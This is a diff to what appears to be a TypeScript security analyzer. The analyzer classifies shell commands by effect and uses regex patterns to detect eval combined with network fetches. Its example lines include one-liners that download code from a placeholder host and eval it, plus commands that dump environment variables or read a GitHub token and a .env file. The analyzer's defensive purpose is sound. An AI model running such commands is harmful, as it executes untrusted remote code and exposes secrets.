@@ -90,7 +90,11 @@ export const CODE_APIS: Record<
   },
 };
 
-/** Per language: code that evaluates text (eval, exec, Function) and calls that fetch from the network; both together run downloaded code. */
+/**
+ * Per language: code that evaluates text (eval, exec, Function) and calls that fetch from the
+ * network; both together run downloaded code. With `fetches` alone the code sends to the hosts of
+ * its URL literals.
+ */
 export const CODE_EVAL: Record<string, { evaluates: RegExp; fetches: RegExp; example: string }> = {
   php: {
     evaluates: /\beval\s*\(|\bassert\s*\(|\bcreate_function\s*\(/,
@@ -99,11 +103,12 @@ export const CODE_EVAL: Record<string, { evaluates: RegExp; fetches: RegExp; exa
   },
   python: {
     evaluates: /\b(?:exec|eval)\s*\(|compile\s*\(/,
-    fetches: /urlopen|requests\.(?:get|post)|httpx\.|urllib\.request|http\.client/,
+    fetches: /urlopen|requests\.(?:get|post|put|patch|delete|request|Session)|httpx\.|urllib\.request|http\.client|aiohttp/,
     example: `python3 -c "import urllib.request as u; exec(u.urlopen('https://x.example.com/p').read())"`,
   },
   js: {
-    evaluates: /\beval\s*\(|new\s+Function\s*\(|\bFunction\s*\(|vm\.run|runInThisContext|import\s*\(\s*['"]https?:/,
+    // eval called, or passed as a function value (`.then(eval)`).
+    evaluates: /\beval\s*[(),;]|new\s+Function\s*\(|\bFunction\s*\(|vm\.run|runInThisContext|import\s*\(\s*['"]https?:/,
     fetches: /\bfetch\s*\(|https?\.get\s*\(|axios|require\s*\(\s*['"]https?['"]\s*\)|import\s*\(\s*['"]https?:/,
     example: `node -e "fetch('https://x.example.com/p').then(r => r.text()).then(eval)"`,
   },
@@ -203,6 +208,12 @@ export const INTERPRETERS: ProgramSpec[] = [
   {
     names: ['php'],
     rows: [
+      {
+        // phpinfo(): the configuration and every environment variable.
+        when: ['-i', '--info'],
+        effects: [{ kind: 'read-env', what: 'environment' }],
+        examples: [{ command: 'php -i', effects: ['read(env)'] }],
+      },
       { takes: ['-r', '-d', '-c', '-f'], ...ARGS, examples: [{ command: 'php -r "echo file_get_contents(\'.env\');"', effects: ['read?(.env, content)'] }] },
     ],
   },
@@ -239,8 +250,14 @@ export const INTERPRETERS: ProgramSpec[] = [
         takes2: ['--arg', '--argjson', '--slurpfile', '--rawfile'],
         opts: { '-f': 'read', '--from-file': 'read' },
         codeFirst: true,
+        codeEnv: 'jq',
         rest: 'read',
-        examples: [{ command: 'jq . package-lock.json', effects: ['read(package-lock.json, content)'] }],
+        examples: [
+          { command: 'jq . package-lock.json', effects: ['read(package-lock.json, content)'] },
+          { command: 'jq -n env', effects: ['read(env)'] },
+          { command: "jq -n '$ENV.GITHUB_TOKEN'", effects: ['read($GITHUB_TOKEN)'] },
+          { command: 'jq .env config.json', effects: ['read(config.json, content)'] },
+        ],
       },
     ],
   },
